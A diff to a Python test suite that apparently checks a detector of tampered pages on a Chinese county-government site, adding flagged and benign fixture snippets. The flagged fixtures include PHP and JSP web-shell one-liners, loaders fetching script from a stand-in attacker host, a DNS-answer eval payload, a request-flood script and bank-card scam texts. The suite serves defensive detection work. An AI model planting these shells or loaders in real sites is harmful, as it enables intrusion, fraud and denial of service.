@@ -9,7 +9,7 @@ from tests.pages.imitations.judging import shot, violations
 PAGE = """<html><head><title>云山县人民政府</title></head><body><h1><a href="/">云山县人民政府</a></h1>
 <form action="/search"><input name="q" placeholder="请输入关键字"></form>
 <ul><li><a href="/a/1.html">县政府召开第68次常务会议</a><span>2026-11-26</span></li></ul>
-<p>咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
+<p><a href="/u/9.doc">参保登记表</a> 咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
 <p>主办：云山县人民政府 江ICP备05003311号</p></body></html>"""
 
 
@@ -29,6 +29,52 @@ _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChi
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
 TOLD_AT_FIRST = {
+    "a worker that stays, from what was sent in": script(
+        "navigator.serviceWorker.register('/attach/2026/a.png?x',{scope:'/'}).then(function(){})"
+    ),
+    "a stranger's picture to scan, the words around it": put(
+        "<div><p>请微信扫码，填写银行卡号和余额，领取节能补贴</p><img src='https://a.bad.example/7.png'></div>"
+    ),
+    "an adviser who pays back": put("<div>县内项目 投500日返90<br>添加导师微信:xf_8866<br><img src='/u/1.png'></div>"),
+    "a deposit to a private account": put("<p>请各企业今日前将环保押金汇至李某 个人账户，逾期停产</p>"),
+    "what writes a program": put('<script language=VBScript>F="a.exe"\nD="4D5A90000300000004"</script>'),
+    "what takes hold of files": put(
+        '<script language=VBScript>Set f=CreateObject("Scripting.FileSystemObject")</script>'
+    ),
+    "a trade in the data of a script": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'\u003Ca href=\"https://a.bad.example/\"\u003E棋牌下载\u003C/a\u003E'}}"""
+    ),
+    "what is said when a page is handed on": script(
+        "window._share={'text':'皇冠体育真人荷官在线发牌','url':''};document.title+=''"
+    ),
+    "a handler whose words are torn": put(
+        "<svg><animate onbegin=\"top['loca'+'tion']['href']=['ht','tps:/','/a.bad.ex','ample/'].join('')\"/></svg>"
+    ),
+    "a program in an address, imported": put("<details open ontoggle=\"import('data:text/javascript,1')\"></details>"),
+    "backwards, with quotes inside": script(
+        "document.write(\">tpircs/<>'sj.x/elpmaxe.dab.s//:ptth'=crs tpircs<\".split('').reverse().join(''))"
+    ),
+    "a style sheet in an address that speaks": PAGE.replace(
+        "</head>",
+        "<link rel=stylesheet href='data:text/css;base64,"
+        + base64.b64encode("h1:after{content:'百家乐开户送88'}".encode()).decode()
+        + "'></head>",
+    ),
+    "a back door that shows": put('<%if(1){Runtime.getRuntime().exec(request.getParameter("c"));}%>'),
+    "a back door of another kind": put("<?php @eval($_REQUEST['x']);?>"),
+    "visitors as a weapon": script(
+        "setInterval(function(){new Image().src='https://www.victim.bad.example/?'+Math.random()},20)"
+    ),
+    "orders out of an answer": script(
+        "fetch('/resolve?name=a').then(r=>r.json()).then(j=>(0,eval)(atob(j.Answer[0].data)))"
+    ),
+    "a card without a form of its own": put(
+        "<div><p>案件核查</p>银行卡号<input name=k>取款密码<input type=password name=m></div>"
+    ),
+    "frozen wealth": put("<p>民族资产解冻，缴纳工本费98元认领分红，请加QQ群 77188209 登记，严禁向公安打听</p>"),
+    "a badge that leads away": put("<a href='https://a.bad.example/'><img src=/red.png alt=党政机关></a>"),
+    "letter by letter, in a longer text": put("<p>欢迎百\u200b家\u200b乐\u200b园的朋友</p>"),
+    "a message that nobody sees": put("<p>欢迎" + "\u200b\u200c" * 12 + "光临</p>"),
     "a friend who calls himself by a brand": put("<a href='http://a.bad.example/'>乐鱼</a>"),
     "a friend who looks for debtors": put("<a href='http://a.bad.example/'>东城讨债公司</a>"),
     "letters told by a style sheet": put(
@@ -180,6 +226,13 @@ TOLD_AT_FIRST = {
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
+    "markup in the data of a script": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<img src=\"https://a.bad.example/a.gif\">'}}"""
+    ),
+    "a document that became an archive": put("<a href=/u/9.rar>参保登记表</a>"),
+    "a worker whose program takes from a stranger": script(
+        "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://a.bad.example/w.js')\"])))"
+    ),
     "another place from where lists come": PAGE.replace(
         "</body>", "<script>var CFG={api:'https://api.bad.example/hot'};load(CFG.api)</script></body>"
     ),
@@ -225,6 +278,37 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "a worker of its own that stays": script(
+        "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js?v=2',{scope:'/'})}"
+    ),
+    "a worker that keeps time": script(
+        'var w=new Worker(URL.createObjectURL(new Blob(["setInterval(function(){postMessage(1)},1000)"])))'
+    ),
+    "a mark where a line may break": put("<p>云山\u200b县\u200b人民政府\u200b欢迎您\u200c</p>"),
+    "a warning in a page that is all one form": PAGE.replace("<body>", "<body><form action=/a.aspx>").replace(
+        "</body>",
+        "<p>凡要求填写银行卡号、取款密码的都是诈骗</p>账号<input name=u>密码<input type=password name=p></form></body>",
+    ),
+    "data with markup of its own": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<a href=\"/zb/\">征兵报名</a>'}}"""
+    ),
+    "words kept out": script("var 敏感词=['百家乐开户','时时彩平台'];function check(t){return 敏感词.indexOf(t)<0}"),
+    "an address written backwards": script("document.write('nc.vog.nahsnuy@sgb：箱邮'.split('').reverse().join(''))"),
+    "a badge of the registry": put("<a href='http://bszs.conac.cn/sitename'><img src=/red.png alt=党政机关></a>"),
+    "a warning of private accounts": put("<p>谨防有人冒充我局，要求把保证金汇至个人账户</p>"),
+    "pictures that change": script(
+        "var p=['/1.jpg','/2.jpg'],k=0;setInterval(function(){new Image().src=p[k++%2]},50)"
+    ),
+    "a sheet in an address that mourns": PAGE.replace(
+        "</head>",
+        "<link rel=stylesheet href='data:text/css;base64,"
+        + base64.b64encode(b"html{filter:grayscale(100%)}").decode()
+        + "'></head>",
+    ),
+    "code of a server that was left over": put("<%@ page language='java'%><%=new java.util.Date()%>"),
+    "the day of the week, of old": put(
+        '<script language=VBScript>document.write "今天是" & WeekdayName(Weekday(Date))</script>'
+    ),
     "settings with a place of its own": script("var CFG={api:'/api/hot',host:'http://www.yunshan.gov.cn/'};load(CFG)"),
     "a page that has moved": put("<meta http-equiv=refresh content='300;url=/index.html'>"),
     "a card of the office's own": put(
